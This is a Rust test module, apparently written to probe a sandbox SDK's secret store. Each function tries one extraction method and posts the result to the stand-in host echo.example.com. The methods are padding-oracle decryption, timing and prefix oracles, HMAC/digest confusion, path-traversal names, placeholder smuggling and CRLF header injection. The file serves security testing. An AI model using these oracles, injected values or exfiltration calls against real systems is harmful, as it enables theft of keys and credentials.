//! What derives secrets: one function for each way that was thought of.
//!
//! Each hands what it found to `/found` of `echo.example.com`, whole, where the test looks for the secret in it.
//! `guarded` serves every use at once, `sealing` is the key of envelopes, and `sent` goes out with requests to that
//! same host, a destination that says back whatever it is asked to.

use std::time::Instant;

use parlor_sdk::{
    Outbound,
    encoding::{base64, hex_decode},
    secrets::{self, Digest, KeyForm, Padding, Part, SecretError},
    settings, store,
};

const GUARDED: &str = "guarded";
const ECHO: &str = "https://echo.example.com/v1";
const LETTERS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=-_";
/// Letters that a way which spells would find before it stops.
const LENGTH: usize = 8;

/// Goes one way to the secret.
pub fn steal(how: &str, argument: &str) -> String {
    let found = match how {
        "control" => kept(settings::get::<String>("planted").ok().flatten().unwrap_or_default()),
        "equals" => spell(|text| secrets::equals(GUARDED, text) == Ok(true)),
        "prefix" => spell(drops_prefix),
        "sorted-digest" => spell(is_sorted_before),
        "seal-bounds" => spell(opens_under_other_bounds),
        "periods" => periods(),
        "mac-as-digest" => mac_as_digest(),
        "key-forms" => key_forms(),
        "vector-is-key" => vector_is_key(),
        "timing" => timing(),
        "names" => names(),
        "echo" => echo(argument),
        "cut-echo" => cut_echo(),
        "kept-echo" => kept_echo(),
        "places" => places(),
        "errors" => errors(),
        "mint" => mint(),
        other => return format!("there is no way `{other}`"),
    };
    match Outbound::post(format!("{ECHO}/found/{how}")).body(found).send() {
        Ok(_) => "told".to_owned(),
        Err(failure) => failure.reason,
    }
}

/// The text, of which a copy stays in memory to the end of the call.
fn kept(text: String) -> String {
    let kept: &'static str = text.leak();
    kept.to_owned()
}

/// Spells a text letter by letter, as far as `is_so` says that a beginning is right.
fn spell(is_so: impl Fn(&[u8]) -> bool) -> String {
    let mut text = String::new();
    while text.len() < LENGTH {
        let begins = |letter: &char| is_so(format!("{text}{letter}").as_bytes());
        let Some(letter) = LETTERS.chars().find(begins) else { break };
        text.push(letter);
    }
    text
}

fn bytes(bytes: &[u8]) -> Part {
    Part::Bytes(bytes.to_vec())
}

fn raw() -> Part {
    Part::Secret(KeyForm::Raw)
}

/// Whether the secret has this prefix: only then would it be dropped, and the MAC another one.
fn drops_prefix(prefix: &[u8]) -> bool {
    let mac = |prefix: &str| {
        let key = [Part::Secret(KeyForm::Base64(prefix.to_owned()))];
        secrets::hmac(GUARDED, Digest::Sha256, &key, &[])
    };
    let prefix = String::from_utf8_lossy(prefix);
    match (mac(&prefix), mac("")) {
        (Ok(with), Ok(without)) => with != without,
        // Base64 that no longer is base64, once letters are dropped.
        (Err(SecretError::Malformed), Ok(_)) => true,
        _ => false,
    }
}

/// Whether the secret sorts behind this text, by a digest that the seal was made to give away.
fn is_sorted_before(text: &[u8]) -> bool {
    let text = String::from_utf8_lossy(text).into_owned();
    let Ok(sealed) = secrets::seal(GUARDED, "sealing", &text, b"m", "o") else { return false };
    let digest = hex_decode(&sealed.signature).unwrap_or_default();
    let parts = [
        raw(),
        bytes(sealed.timestamp.as_bytes()),
        bytes(sealed.nonce.as_bytes()),
        bytes(sealed.ciphertext.as_bytes()),
    ];
    // The same letters under other bounds: they sort elsewhere, and the digest tells on which side of the secret.
    let (first, rest) = text.split_at(1.min(text.len()));
    let other = [raw(), bytes(first.as_bytes()), bytes(rest.as_bytes()), parts[1].clone(), parts[3].clone()];
    [&parts[..], &other[..]]
        .iter()
        .any(|parts| secrets::digest_verify(GUARDED, Digest::Sha1, parts, true, &digest) == Ok(true))
}

/// Whether what was sealed opens with a piece of its text on the other side of a bound.
fn opens_under_other_bounds(text: &[u8]) -> bool {
    let nonce = format!("1{}", String::from_utf8_lossy(text));
    let Ok(sealed) = secrets::seal(GUARDED, "sealing", &nonce, b"m", "o") else { return false };
    let opens = |timestamp: &str, nonce: &str| {
        secrets::unseal(GUARDED, "sealing", timestamp, nonce, &sealed.ciphertext, &sealed.signature).is_ok()
    };
    opens(&format!("{}1", sealed.timestamp), &nonce[1..]) || opens(&sealed.timestamp, &nonce)
}

/// Two keys that are the same bytes whichever way they are put together: then the secret repeats itself.
fn periods() -> String {
    let mac = |key: &[Part]| secrets::hmac(GUARDED, Digest::Sha256, key, &[]).ok();
    let repeats = |letter: &char| {
        let letter = bytes(letter.to_string().as_bytes());
        let before = mac(&[letter.clone(), raw()]);
        before.is_some() && before == mac(&[raw(), letter])
    };
    LETTERS.chars().filter(repeats).collect()
}

/// A MAC whose key is known is two digests; if one of them could be verified, so could a guess of what it is over.
fn mac_as_digest() -> String {
    let key = [7; 64];
    let Ok(mac) = secrets::hmac(GUARDED, Digest::Sha256, &[bytes(&key)], &[raw()]) else {
        return String::new();
    };
    let masked = |mask: u8| bytes(&key.map(|byte| byte ^ mask));
    let asked =
        [&[masked(0x5c), raw()][..], &[masked(0x36), raw()], &[masked(0x5c), masked(0x36), raw()], &[raw()]];
    let found = asked
        .iter()
        .filter(|parts| secrets::digest_verify(GUARDED, Digest::Sha256, parts, false, &mac) == Ok(true));
    "a digest fits; ".repeat(found.count())
}

/// What each form of the key gives, and whether two of them are the same.
fn key_forms() -> String {
    let mut forms = vec![KeyForm::Raw, KeyForm::Sha256, KeyForm::Base64(String::new())];
    forms.extend(["A", "AA", "whsec_", "sk-", " "].map(|prefix| KeyForm::Base64(prefix.to_owned())));
    let mut told = String::new();
    for form in &forms {
        let mac = secrets::hmac(GUARDED, Digest::Md5, &[Part::Secret(form.clone())], &[raw()]);
        told.push_str(&format!("{form:?}: {mac:02x?}; "));
        for padding in [Padding::Pkcs7To16, Padding::Pkcs7To32] {
            let opened = secrets::aes_cbc_decrypt(GUARDED, form, padding, &[0; 48]);
            told.push_str(&format!("{opened:?}; "));
        }
    }
    told.push_str(&format!("{:02x?}", secrets::ed25519_sign(GUARDED, b"")));
    told
}

/// Envelopes whose vector is the key: the first block of the text, if it were told, would be half of the key.
///
/// By asking for one block with all 256 ends, its deciphering is found; then an envelope is made that opens.
fn vector_is_key() -> String {
    let form = KeyForm::Base64(String::new());
    let block = [0x41; 16];
    let opens = |end: u8| {
        let mut text = [0; 32];
        text[15] = end;
        text[16..].copy_from_slice(&block);
        let opened = secrets::aes_cbc_decrypt("sealing", &form, Padding::Pkcs7To16, &text).ok()?;
        // One byte of padding: the other fifteen are known, and the last is 1.
        (opened.len() == 15).then(|| {
            let mut deciphered: [u8; 16] = [0; 16];
            deciphered[..15].copy_from_slice(&opened);
            deciphered[15] = end ^ 1;
            deciphered
        })
    };
    let Some(deciphered) = (0..=255).find_map(opens) else { return "no block was deciphered".to_owned() };
    // Length 0, an owner of eleven letters, one byte of padding.
    let wanted: [u8; 16] = *b"\0\0\0\0elevenchars\x01";
    let first: Vec<u8> = deciphered.iter().zip(wanted).map(|(byte, wanted)| byte ^ wanted).collect();
    let envelope = base64(&[first.as_slice(), &block].concat());
    match secrets::unseal_unsigned("sealing", &envelope) {
        Ok(unsealed) => format!("{:?} of {:?}", unsealed.message, unsealed.owner),
        Err(error) => format!("{error:?}"),
    }
}

/// Spells by the time that a comparison takes: the letter that takes longest is taken for the right one.
fn timing() -> String {
    let mut text = String::new();
    for _ in 0..4 {
        let slowest = LETTERS.chars().max_by_key(|letter| {
            let guess = format!("{text}{letter}");
            let time = |_| {
                let began = Instant::now();
                let _same = secrets::equals(GUARDED, guess.as_bytes());
                began.elapsed()
            };
            (0..3).map(time).min()
        });
        text.extend(slowest);
    }
    text
}

/// Secrets that are not declared, and settings, keys and records of the names of secrets.
fn names() -> String {
    let mut told = String::new();
    for name in
        [GUARDED, "sent", "sealing", "jwt_secret", "auth.jwt_secret", "../guarded", "${secret:guarded}", ""]
    {
        told.push_str(&format!("{:?}; ", settings::get::<String>(name)));
        told.push_str(&format!("{:?}; ", secrets::equals(name, b"")));
        told.push_str(&format!("{:?}; ", store::get(name)));
    }
    told
}

fn sent(request: Outbound) -> String {
    match request.send() {
        Ok(response) => format!("{:?} {}", response.headers, String::from_utf8_lossy(&response.body)),
        Err(failure) => failure.reason,
    }
}

/// A destination that says back in the form of `how` what it was given.
fn echo(how: &str) -> String {
    let placeholder = "${secret:sent}";
    let url = format!("{ECHO}/{placeholder}?how={how}&key={placeholder}");
    sent(
        Outbound::post(url)
            .header("authorization", placeholder)
            .body(format!("{{\"key\":\"{placeholder}\"}}")),
    )
}

/// A destination that cuts what it says back: behind ever more padding, ever fewer letters of the secret are left.
fn cut_echo() -> String {
    let ask = |padding: usize| {
        let value = format!("{}${{secret:sent}}", "x".repeat(padding));
        sent(Outbound::get(format!("{ECHO}/?how=cut")).header("authorization", &value))
    };
    (32..64).map(ask).collect()
}

/// A destination that keeps what it was given, and tells it when asked for nothing secret.
fn kept_echo() -> String {
    let kept = sent(Outbound::post(format!("{ECHO}/?how=keep")).header("authorization", "${secret:sent}"));
    kept + &sent(Outbound::get(format!("{ECHO}/?how=tell")))
}

/// Placeholders where they do not count, in other words, and inside each other.
fn places() -> String {
    let placeholder = "${secret:sent}";
    let requests = [
        Outbound::get(format!("{ECHO}/?how=plain")).header("x-elsewhere", placeholder),
        Outbound::get(format!("{ECHO}/?how=plain&other={placeholder}")),
        Outbound::get(format!("{ECHO}/?how=plain")).header("authorization", "${secret:guarded}"),
        Outbound::get(format!("{ECHO}/?how=plain")).header("authorization", "${secret:${secret:sent}}"),
        Outbound::get(format!("{ECHO}/?how=plain")).header("authorization", "${ secret:sent }${SECRET:sent}"),
        Outbound::get(format!("{ECHO}/?how=plain")).limit_key(placeholder),
        Outbound::get(format!("https://{placeholder}.example.com/?how=plain")),
        Outbound::get(format!("https://other.example.com/?key={placeholder}")),
        Outbound::new("GET", format!("{ECHO}/?how=plain")).header("x-${secret:sent}", "x"),
    ];
    requests.into_iter().map(sent).collect()
}

/// What errors tell: values that break a header, a path or a URL.
fn errors() -> String {
    let placeholder = "${secret:sent}";
    let long = "x".repeat(9000);
    let requests = [
        Outbound::get(format!("{ECHO}/../{placeholder}")),
        Outbound::get(format!("{ECHO}/{placeholder}/{long}")),
        Outbound::get(format!("{ECHO}/{placeholder}#{placeholder}")),
        Outbound::get(format!("{ECHO}/?how=hang-up&key={placeholder}")),
        Outbound::get(format!("{ECHO}/?how=redirect&key={placeholder}")),
        Outbound::get(format!("{ECHO}/?how=status&key={placeholder}")),
        Outbound::new("B AD", format!("{ECHO}/{placeholder}")),
        Outbound::get(format!("{ECHO}/")).header("authorization", format!("{placeholder}\r\nx: y")),
        Outbound::get(format!("{ECHO}/")).header("authorization", format!("{placeholder}\u{1}")),
    ];
    requests.into_iter().map(sent).collect()
}

/// The token's own recipe, asked for directly.
fn mint() -> String {
    let mint = "https://mint.example.com/token";
    let used = sent(Outbound::get(format!("{ECHO}/?how=plain")).header("x-token", "${token:access}"));
    let body = "{\"secret\":\"${secret:sent}\"}";
    let asked = ["", "/", "?a=b"].map(|more| sent(Outbound::post(format!("{mint}{more}")).body(body)));
    used + &asked.concat()
}
